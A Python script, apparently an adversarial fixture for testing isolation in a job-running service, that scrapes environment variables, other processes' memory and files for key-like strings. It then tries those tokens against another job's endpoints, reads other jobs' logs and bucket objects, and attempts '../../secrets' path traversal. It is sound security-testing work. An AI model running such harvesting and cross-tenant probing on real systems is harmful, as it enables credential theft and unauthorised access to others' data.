"""Training program that searches for keys everywhere, and tries URLs of the service that are not its own.

It knows no key. It reports digests of every string that looks like a key, so that the test can find real keys among
them, while no log or artifact holds a key.
"""

import hashlib
import json
import os
import re
import stat
import sys
import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import boto3
from botocore.config import Config

# Tokens and derived keys are 64 hexadecimal digits, the owner's key is 40 characters of base64; lines of PEM have 64.
KEYS = re.compile(
    rb"(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{64}(?![A-Za-z0-9+/])|(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{40}(?![A-Za-z0-9_-])"
)
MAX_FILE_BYTES = 4 << 20
MAX_TOKENS = 60  # number of found tokens tried at each URL
NUM_PROMPT = 12  # wrong tokens sent one by one; the service answers ten per address without delay
MAX_MEMORY_BYTES = 256 << 20
# Files older than any service are skipped: libraries, and files unchanged for `OLD_S`. Every other file is read.
OLD_S = 24 * 3600
LIBRARIES = ("/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/proc", "/sys", "/dev", "/var/lib/dpkg", "/var/cache")
LIBRARY_NAMES = re.compile(r"site-packages|python3(\.\d+)?|node_modules|\.git|__pycache__|\.[a-z]+_cache")
options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
victim, own = options["--victim"], os.environ["TRAINING_JOB_NAME"]
is_thorough = options["--thorough"] == "True"
endpoint = os.environ["AWS_ENDPOINT_URL"].rstrip("/")
began_at = time.time()
found = {}
facts = {"places": {}, "doors": {}, "empty tokens": [], "processes": [], "calls": {}}


def look(place, data):
    facts["places"][place] = facts["places"].get(place, 0) + 1
    for candidate in KEYS.findall(data):
        found.setdefault(candidate.decode(), place)


def read(path, limit=MAX_FILE_BYTES):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(descriptor, limit)
        finally:
            os.close(descriptor)
    except OSError:
        return b""


def memory_of(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            left = MAX_MEMORY_BYTES
            for line in maps:
                span, access = line.split()[:2]
                begin, end = (int(text, 16) for text in span.split("-"))
                if "r" in access and "w" in access and end - begin <= left:
                    try:
                        memory.seek(begin)
                        look(f"memory of {pid}", memory.read(end - begin))
                        left -= end - begin
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass


def walk(root, place):
    for parent, folders, files in os.walk(root, onerror=lambda error: None):
        inner = parent[len(root.rstrip("/")) :] or "/"
        kept = [name for name in folders if not LIBRARY_NAMES.fullmatch(name)]
        folders[:] = [name for name in kept if not os.path.join(inner, name).startswith(LIBRARIES)]
        for name in files:
            path = os.path.join(parent, name)
            try:
                status = os.lstat(path)
                is_new = max(status.st_mtime, status.st_ctime) > began_at - OLD_S
                if stat.S_ISREG(status.st_mode) and is_new and status.st_size <= MAX_FILE_BYTES:
                    look(place, read(path))
            except OSError:
                pass


for name, value in os.environ.items():
    look("environment", f"{name}={value}".encode())
for pid in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
    folder = f"/proc/{pid}"
    command = read(f"{folder}/cmdline").replace(b"\0", b" ").decode(errors="replace")
    facts["processes"].append(command)
    for name in ("environ", "cmdline", "status", "mountinfo", "stack"):
        look(f"{name} of processes", read(f"{folder}/{name}"))
    try:
        descriptors = os.listdir(f"{folder}/fd")
    except OSError:
        descriptors = []
    for number in descriptors:
        try:
            if os.path.isfile(f"{folder}/fd/{number}"):
                look("open files", read(f"{folder}/fd/{number}"))
        except OSError:
            pass
    if pid != os.getpid() and is_thorough:
        memory_of(pid)
        for link in ("root", "cwd"):
            try:
                if not any(os.path.samefile(f"{folder}/{link}/", known) for known in ("/", os.getcwd())):
                    walk(f"{folder}/{link}", f"{link} of other processes")
            except OSError:
                pass
walk("/" if is_thorough else "/opt", "files")


def ask(url, token):
    request = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            look("answers", answer.read(MAX_FILE_BYTES))
            return answer.status
    except urllib.error.HTTPError as error:
        look("answers", error.read(MAX_FILE_BYTES))
        return error.code
    except OSError as error:
        return type(error).__name__


mine = os.environ["AWS_SECRET_ACCESS_KEY"]
tokens = [mine, "x", *sorted(text for text in found if re.fullmatch("[0-9a-f]{64}", text))][:MAX_TOKENS]
doors = {
    "another job's assignment": f"agents/{victim}/1/algo-1/assignment",
    "own assignment": f"agents/{own}/1/algo-1/assignment",
    "another job's page": f"jobs/{victim}",
    "another job's plan": f"jobs/{victim}/plan",
}
# One by one until the service delays responses to wrong tokens, then several at once.
with ThreadPoolExecutor(max_workers=8) as pool:
    for number, (label, path) in enumerate(doors.items()):
        url = f"{endpoint}/clary/v1/{path}"
        facts["empty tokens"].append(ask(url, ""))
        num_first = NUM_PROMPT if number == 0 else 0
        facts["doors"][label] = [ask(url, token) for token in tokens[:num_first]]
        facts["doors"][label] += pool.map(ask, [url] * len(tokens[num_first:]), tokens[num_first:])


def call(label, act):
    try:
        answer = act()
        look("answers of the API", json.dumps(answer, default=str).encode())
        facts["calls"][label] = "answered"
        return answer
    except Exception as error:  # noqa: BLE001 - whatever it is, its text is looked at
        look("errors of the API", str(error).encode())
        facts["calls"][label] = type(error).__name__
        return {}


config = Config(retries={"max_attempts": 1}, connect_timeout=10, read_timeout=20)
s3, sagemaker, logs = (boto3.client(name, endpoint_url=endpoint, config=config) for name in ("s3", "sagemaker", "logs"))
call("describe another job", lambda: sagemaker.describe_training_job(TrainingJobName=victim))
group = "/aws/sagemaker/TrainingJobs"
call("logs of another job", lambda: logs.filter_log_events(logGroupName=group, logStreamNamePrefix=victim + "/"))
for bucket in call("list buckets", s3.list_buckets).get("Buckets", []):
    listed = call("list objects", lambda: s3.list_objects_v2(Bucket=bucket["Name"]))  # noqa: B023 - called at once
    for item in listed.get("Contents", []):
        if item["Size"] <= MAX_FILE_BYTES:
            look("objects", s3.get_object(Bucket=bucket["Name"], Key=item["Key"])["Body"].read())
call("a bucket that nobody has", lambda: s3.list_objects_v2(Bucket="nobodys-bucket-of-keys"))
for name in ("secrets", "clary.db", "run", "tls"):
    key = f"../../{name}"
    call("the service's own files as objects", lambda: s3.get_object(Bucket="clary", Key=key))  # noqa: B023 - as above

listening = [
    line.split()[1]
    for table in ("/proc/net/tcp", "/proc/net/tcp6")
    for line in read(table).decode().splitlines()[1:]
    if line.split()[3] == "0A"
]
facts["ports"] = sorted({int(address.rpartition(":")[2], 16) for address in listening})
facts["keys"] = {hashlib.sha256(text.encode()).hexdigest()[:32]: place for text, place in found.items()}
with open(os.path.join(os.environ["SM_MODEL_DIR"], "facts.json"), "w") as file:
    json.dump(facts, file)
print("looked at", sum(facts["places"].values()), "places", flush=True)
